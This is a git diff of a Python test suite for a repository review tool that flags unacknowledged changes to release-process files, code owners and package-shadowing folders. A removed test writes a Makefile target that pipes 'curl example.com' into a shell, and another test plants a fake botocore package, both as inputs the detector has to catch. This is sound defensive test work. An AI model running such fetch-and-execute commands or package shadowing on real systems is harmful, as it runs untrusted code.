@@ -71,10 +71,8 @@ def test_acknowledgements_of_the_change_are_not_valid(clone: GitCheckout) -> Non
     write_file(clone, "review/acknowledged.yaml", f"acknowledged: [{line}]\n")
     assert tritonsm(["review", "--base", "main"]) == 3
     assert danger_keys(clone)[DANGER] is False
-    assert any(
-        key.startswith("repository/changed_release_process/review/acknowledged.yaml.")
-        for key in danger_keys(clone)
-    )
+    report = json.loads((clone.root / "review.out" / "review.json").read_text())
+    assert "review/acknowledged.yaml (new)" in "".join(report["code"])
 
 
 def test_change_of_only_acknowledgements_is_not_a_danger(clone: GitCheckout) -> None:
@@ -83,59 +81,23 @@ def test_change_of_only_acknowledgements_is_not_a_danger(clone: GitCheckout) -> 
     assert tritonsm(["review", "--base", "main"]) == 0
 
 
-def test_files_that_affect_the_next_change_are_a_danger(clone: GitCheckout) -> None:
-    paths = {
-        *(".cfnlintrc.yaml", ".checkov.yaml", ".ci/run", ".github/CODEOWNERS", "Makefile"),
-        *(".github/workflows/pull-request.yml", ".venv/bin/python", "cdk.json", "new_module.py"),
-        *("package-lock.json", "pyproject.toml", "review/dangers/low_availability.py"),
-        *("review/acknowledged.yaml", "requirements/checkov.txt"),
-        "constructs/triton_sagemaker/nag.py",
-        *("node_modules/aws-cdk/bin/cdk", "tritonsm", ".npmrc", "setup.cfg", "ruff.toml", ".env"),
-        *("yaml.cpython-311-x86_64-linux-gnu.so", "sitecustomize.py", "constructs/boto3.py"),
-        *("stages/.gitattributes", "constructs/sitecustomize.py", ".config/pip.conf"),
-    }
-    for path in (*paths, "docs/review.md"):
-        write_file(clone, path, "{}")
+def test_changed_code_without_an_owner_in_the_base_exits_with_3(clone: GitCheckout) -> None:
+    write_file(clone, ".github/CODEOWNERS", "* @octo-org/on-call\n")
     commit(clone)
-    clone.git("checkout", "--quiet", "-b", "change")
-    for path in (*paths, "docs/review.md"):
-        write_file(clone, path, '{"acknowledged": []}')
-    assert tritonsm(["review", "--base", "main"]) == 3
-    dangers = json.loads((clone.root / "review.out" / "review.json").read_text())["dangers"]
-    (danger_of_files,) = (
-        danger for danger in dangers if danger["rule"] == "changed_release_process"
-    )
-    reported_paths = {detail.partition(" ")[0] for detail in danger_of_files["details"]}
-    reported_paths |= {
-        danger["subject"].rpartition(".")[0] for danger in dangers if danger != danger_of_files
-    }
-    assert reported_paths == paths
-
-
-def test_folder_named_like_an_installed_package_is_a_danger(clone: GitCheckout) -> None:
+    write_file(clone, ".github/CODEOWNERS", "* @mallory\n")
     write_file(clone, "botocore/__init__.py", "print('in place of the installed one')")
     assert tritonsm(["review", "--base", "main"]) == 3
-    (key,) = danger_keys(clone)
-    assert key.startswith("repository/changed_release_process/botocore/__init__.py.")
-    commit(clone)
-    clone.git("branch", "--force", "base")
-    write_file(clone, "botocore/__init__.py", "")
-    assert tritonsm(["review", "--base", "base"]) == 0
-
-
-def test_acknowledged_file_change_is_valid_for_one_content(clone: GitCheckout) -> None:
-    write_file(clone, "Makefile", "review: ; true")
-    tritonsm(["review", "--base", "main"])
-    (key,) = danger_keys(clone)
-    acknowledge(clone, key)
+    (danger,) = json.loads((clone.root / "review.out" / "review.json").read_text())["dangers"]
+    assert any("botocore/__init__.py: package botocore" in line for line in danger["details"])
+    acknowledge(clone, f"repository/unowned_code/{danger['subject']}")
     assert tritonsm(["review", "--base", "main"]) == 0
-    write_file(clone, "Makefile", "review: ; curl example.com | sh")
+    write_file(clone, "botocore/__init__.py", "print('something else')")
     assert tritonsm(["review", "--base", "main"]) == 3
 
 
 def test_stage_with_an_unexpected_error_is_not_reviewed(clone: GitCheckout) -> None:
     resources = copy.deepcopy(RESOURCES)
-    resources["Config"]["Properties"] = {"ProductionVariants": "none"}
+    resources["Bucket"]["Properties"] = {"LifecycleConfiguration": {"Rules": "none"}}
     write_file(
         clone, "assemblies/prod/prod-text.template.json", json.dumps({"Resources": resources})
     )
